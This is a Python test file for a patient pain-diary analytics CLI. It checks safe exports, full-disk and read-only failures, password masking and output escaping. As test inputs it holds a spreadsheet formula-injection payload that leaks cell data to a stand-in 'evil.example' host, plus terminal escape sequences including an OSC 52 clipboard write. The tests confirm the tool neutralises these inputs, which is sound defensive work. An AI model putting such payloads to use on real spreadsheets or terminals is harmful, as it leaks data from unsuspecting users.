"""Exports, rejects, secrets and faults (read-only database, full disk) through the CLI.

A full disk is simulated portably with RLIMIT_FSIZE in a child process: every write
past the limit fails with EFBIG, as it would with ENOSPC on a full file system.
"""

from __future__ import annotations

import sqlite3
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

from analytics.contract import Dataset
from analytics.io import write_dataset, write_rejects, write_table

from .conftest import DIARY, PATIENTS, fingerprint, run_cli, write_clinic

ROOT = Path(__file__).resolve().parents[2]
DATA_TABLES = ("patients", "diary", "sessions", "history")


def data_part(fp: dict[str, tuple[int, str]]) -> dict[str, tuple[int, str]]:
    return {t: fp[t] for t in DATA_TABLES}


def assert_only_the_failure_was_recorded(db_file, before: dict[str, tuple[int, str]]) -> None:
    """Every table is as ``before`` except the audit log, which gained only failed attempts.

    A refused or failed operation changes no data; the audit log records the attempt
    (who tried what, and that it failed), as every import and export is recorded.
    """
    after = fingerprint(db_file)
    assert {t: v for t, v in after.items() if t != "audit_log"} == {
        t: v for t, v in before.items() if t != "audit_log"
    }
    added = after["audit_log"][0] - before["audit_log"][0]
    con = sqlite3.connect(f"file:{db_file}?mode=ro", uri=True)
    try:
        outcomes = [
            r[0]
            for r in con.execute(
                "SELECT outcome FROM audit_log ORDER BY id DESC LIMIT ?", (max(added, 0),)
            )
        ]
    finally:
        con.close()
    assert added >= 0 and all(o != "ok" for o in outcomes), outcomes


def run_limited(limit_bytes: int, *args: str) -> subprocess.CompletedProcess[str]:
    """``paindiary ARGS`` in a child process that cannot write files past ``limit_bytes``."""
    code = (
        "import resource, signal, sys\n"
        "signal.signal(signal.SIGXFSZ, signal.SIG_IGN)\n"
        f"resource.setrlimit(resource.RLIMIT_FSIZE, ({limit_bytes}, {limit_bytes}))\n"
        "from analytics.cli import main\n"
        f"sys.exit(main({list(args)!r}))\n"
    )
    return subprocess.run(
        [sys.executable, "-W", "ignore", "-c", code],
        capture_output=True,
        text=True,
        cwd=ROOT,
        timeout=300,
    )


# ------------------------------------------------------------------ exports


def test_export_refuses_a_link_in_the_folder_before_anything_happens(tmp_path, capsys, db):
    url, db_file = db
    out = tmp_path / "out"
    out.mkdir()
    outside = tmp_path / "outside.csv"
    (out / "patients.csv").symlink_to(outside)  # dangling: would create a file outside out/
    before = fingerprint(db_file)
    code, stdout, err = run_cli("export", str(out), "--db", url)
    assert code == 1
    assert err == (
        f"error: {out}/patients.csv: is a symbolic link; nothing was written (an export never "
        "writes through a link: remove the link or choose another folder)\n"
    )
    assert not outside.exists() and sorted(p.name for p in out.iterdir()) == ["patients.csv"]
    assert fingerprint(db_file) == before  # not even an audit record


def test_write_table_refuses_a_link_to_an_existing_file(tmp_path):
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    link = tmp_path / "diary.csv"
    link.symlink_to(victim)
    frame = pd.DataFrame(
        {"patient_id": ["P1"], "date": [pd.Timestamp("2026-01-01")], "pain": [5.0]}
    )
    with pytest.raises(OSError, match="is a symbolic link; nothing was written") as info:
        write_table(frame, link, "diary")
    assert info.value.filename == str(link)
    assert victim.read_text() == "keep me"


#: A diary note long enough that the big clinic's rows (~0.5 MB) outgrow the database's
#: write-ahead log under the simulated full disk, whatever the size of an empty database.
NOTE = " ".join(["an ordinary note about the day"] * 5)


def _big_clinic(folder: Path) -> Path:
    days = pd.date_range("2017-01-01", periods=3000, freq="D")
    diary = "patient_id,date,pain,notes\n" + "".join(f"P1,{d:%Y-%m-%d},5,{NOTE}\n" for d in days)
    return write_clinic(folder, diary=diary)


def test_an_export_on_a_full_disk_leaves_no_partial_file(tmp_path, capsys):
    db_file = tmp_path / "big.sqlite3"
    url = f"sqlite:///{db_file}"
    code, *_ = run_cli("import", str(_big_clinic(tmp_path / "big")), "--db", url)
    assert code == 0
    before = fingerprint(db_file)
    out = tmp_path / "out"
    result = run_limited(60_000, "export", str(out), "--db", url)  # diary.csv is ~0.5 MB
    assert result.returncode == 1
    assert result.stderr == f"error: {out}/diary.csv: File too large; nothing was written\n"
    assert not out.exists()  # no diary.csv cut short, no temporary file, not even the folder
    assert data_part(fingerprint(db_file)) == data_part(before)


def test_an_import_on_a_full_disk_names_the_database_and_changes_nothing(tmp_path, capsys, db):
    url, db_file = db
    before = fingerprint(db_file)
    size = sum(p.stat().st_size for p in db_file.parent.iterdir())
    result = run_limited(size + 8192, "import", str(_big_clinic(tmp_path / "big")), "--db", url)
    assert result.returncode == 1
    assert result.stderr.startswith(
        f"error: Could not import the dataset in the database {db_file}: "
    )
    assert_only_the_failure_was_recorded(db_file, before)


def test_export_from_a_read_only_database_says_why_nothing_was_exported(tmp_path, capsys, db):
    _, db_file = db
    before = fingerprint(db_file)
    out = tmp_path / "out"
    code, stdout, err = run_cli(
        "export", str(out), "--db", f"sqlite:///file:{db_file}?mode=ro&uri=true"
    )
    assert code == 1 and stdout == ""
    assert err == (
        f"error: Could not record the export in the database file:{db_file}: attempt to write a "
        "readonly database. Every export is recorded in the database's audit log, so nothing was "
        "exported: check that the database and its folder are writable and the disk is not full.\n"
    )
    assert not out.exists()
    assert fingerprint(db_file) == before


def test_a_dataset_is_renamed_into_place_only_when_every_file_is_written(tmp_path, monkeypatch):
    import analytics.io._exports as exports

    ds = Dataset(
        patients=pd.DataFrame({"patient_id": ["P1"], "condition": ["neck_pain"]}),
        diary=pd.DataFrame(
            {"patient_id": ["P1"], "date": [pd.Timestamp("2026-01-01")], "pain": [5.0]}
        ),
        sessions=pd.DataFrame(
            {"patient_id": ["P1"], "date": [pd.Timestamp("2026-01-02")], "technique": ["manual"]}
        ),
    )
    real = exports._to_csv
    calls = []

    def fail_on_sessions(cells, target):
        calls.append(cells.columns[-1])
        if "technique" in cells.columns:
            raise OSError(28, "No space left on device")
        real(cells, target)

    monkeypatch.setattr(exports, "_to_csv", fail_on_sessions)
    out = tmp_path / "out"
    with pytest.raises(OSError) as info:
        write_dataset(ds, out)
    assert (
        str(info.value)
        == f"[Errno 28] No space left on device; nothing was written: '{out}/sessions.csv'"
    )
    assert list(out.iterdir()) == []  # patients.csv and diary.csv were not renamed in either


def test_rejects_headers_are_neutralised_like_cells(tmp_path, capsys, db):
    url, db_file = db
    evil = '=HYPERLINK("http://evil.example/?leak="&A2,"click")'
    quoted = evil.replace('"', '""')
    diary = f'patient_id,date,pain,"{quoted}",@cmd\nP1,2026-01-05,11,=1+1,x\nP1,2026-01-06,4,a,b\n'
    folder = write_clinic(tmp_path / "rej", diary=diary)
    code, out, err = run_cli("import", str(folder), "--db", url, "--skip-invalid")
    assert code == 0
    lines = (folder / "diary.rejects.csv").read_text().splitlines()
    assert lines[0] == (
        'line,reason,patient_id,date,pain,"\'=HYPERLINK(""http://evil.example/?leak=""&A2,'
        '""click"")",\'@cmd'
    )
    assert (
        lines[1]
        == '2,"pain: pain is ""11""; pain must be a number from 0 to 10",P1,2026-01-05,11,\'=1+1,x'
    )


def test_write_rejects_neutralises_every_header_cell(tmp_path):
    frame = pd.DataFrame({"line": [2], "reason": ["bad"], "-2+3": ["+x"], "ok": ["y"]})
    [path] = write_rejects({"diary": frame}, tmp_path)
    assert path.read_text().splitlines() == ["line,reason,'-2+3,ok", "2,bad,'+x,y"]


# ------------------------------------------------------------------ secrets and escapes

SECRET = "Pa55-w0rd"


@pytest.mark.parametrize(
    "url,shown",
    [
        (
            f"postgresql+psycopg://ana:{SECRET}@127.0.0.1:9/clinic?password={SECRET}",
            "postgresql+psycopg://ana:***@127.0.0.1:9/clinic?password=***",
        ),
        (
            f"postgresql+psycopg://ana@127.0.0.1:9/clinic?sslmode=disable&password={SECRET}",
            "postgresql+psycopg://ana@127.0.0.1:9/clinic?password=***&sslmode=disable",
        ),
        (f"host=127.0.0.1 port=9 password={SECRET}", "'host=127.0.0.1 port=9 password=***'"),
    ],
    ids=["userinfo-and-query", "query", "libpq-keywords"],
)
@pytest.mark.parametrize("command", ["import", "export", "init-demo"])
def test_no_cli_message_shows_a_password(tmp_path, capsys, clinic, url, shown, command):
    args = {"import": [str(clinic)], "export": [str(tmp_path / "out")], "init-demo": []}[command]
    code, out, err = run_cli(command, *args, "--db", url)
    assert code == 1
    assert SECRET not in out + err
    assert shown in err


def test_sqlite_url_with_a_password_parameter_is_masked(tmp_path, capsys):
    url = f"sqlite:///{tmp_path}/none.sqlite3?password={SECRET}"
    code, out, err = run_cli("export", str(tmp_path / "out"), "--db", url)
    assert code == 1 and SECRET not in out + err
    assert "?password=***" in err


def test_conflict_tables_escape_terminal_codes_in_stored_notes(tmp_path, capsys, db):
    url, db_file = db
    changed = DIARY.replace("first note", "\x1b[2J\x1b[31mnew\x1b[0m note")
    folder = write_clinic(tmp_path / "conflict", diary=changed)
    before = fingerprint(db_file)
    code, out, err = run_cli("import", str(folder), "--db", url)
    assert code == 1
    assert "\x1b" not in out + err
    assert "\\x1b[2J\\x1b[31mnew\\x1b[0m note" in err
    assert_only_the_failure_was_recorded(db_file, before)


def test_validate_output_through_a_real_terminal_pipe_has_no_escape_bytes(tmp_path):
    folder = write_clinic(
        tmp_path / "ansi", patients=PATIENTS + "\x1b]52;c;ZXZpbA==\x07P9,neck_pain,,,,,\n"
    )
    result = subprocess.run(
        [sys.executable, "-m", "analytics.cli", "validate", str(folder)],
        capture_output=True,
        cwd=ROOT,
        timeout=120,
    )
    assert result.returncode == 1
    assert b"\x1b" not in result.stdout + result.stderr
    assert b"\x07" not in result.stdout + result.stderr
    assert b"patient_id is '\\x1b]52;c;ZXZpbA==\\x07P9'" in result.stdout


def test_the_store_masks_the_password_in_its_errors_and_name():
    from analytics.errors import StoreError
    from analytics.store import open_store

    url = f"postgresql+psycopg://ana:{SECRET}@127.0.0.1:9/clinic?password={SECRET}"
    with pytest.raises(StoreError) as info:
        open_store(url)
    assert SECRET not in str(info.value)
    assert str(info.value).startswith(
        "Cannot open the database postgresql+psycopg://ana:***@127.0.0.1:9/clinic?password=***: "
    )
    with pytest.raises(StoreError) as info:
        open_store(f"not a url password={SECRET}")
    assert str(info.value) == (
        "'not a url password=***' is not a database URL (e.g. sqlite:///path/to/file.sqlite3)"
    )


@pytest.mark.parametrize("moment", ["while writing diary.csv", "before the first rename"])
def test_an_export_killed_midway_leaves_no_contract_file(tmp_path, capsys, db, moment):
    url, db_file = db
    before = fingerprint(db_file)
    out = tmp_path / "out"
    patch = {
        # kill -9 the process half-way through writing diary.csv's rows
        "while writing diary.csv": (
            "real = exports._to_csv\n"
            "def _to_csv(cells, target):\n"
            "    if 'pain' in cells.columns:\n"
            "        target.write(cells.to_csv(index=False)[:40]); target.flush()\n"
            "        os.kill(os.getpid(), signal.SIGKILL)\n"
            "    real(cells, target)\n"
            "exports._to_csv = _to_csv\n"
        ),
        # kill -9 once every file is complete but none is in place yet
        "before the first rename": (
            "def replace(src, dst):\n"
            "    os.kill(os.getpid(), signal.SIGKILL)\n"
            "os.replace = replace\n"
        ),
    }[moment]
    code = (
        "import os, signal, sys\n"
        "import analytics.io._exports as exports\n"
        + patch
        + "from analytics.cli import main\n"
        + f"sys.exit(main(['export', {str(out)!r}, '--db', {url!r}]))\n"
    )
    result = subprocess.run(
        [sys.executable, "-W", "ignore", "-c", code],
        capture_output=True,
        text=True,
        cwd=ROOT,
        timeout=300,
    )
    assert result.returncode == -9, result.stderr
    names = sorted(p.name for p in out.iterdir())
    assert not {"patients.csv", "diary.csv", "sessions.csv"} & set(names)
    # what a kill leaves behind is hidden and says what it is
    assert all(n.startswith(".") and n.endswith(".partial") for n in names), names
    after = fingerprint(db_file)
    assert data_part(after) == data_part(before)
    # an export is recorded once its files are complete, just before they are put in place
    recorded = {"while writing diary.csv": 0, "before the first rename": 1}[moment]
    assert after["audit_log"][0] == before["audit_log"][0] + recorded
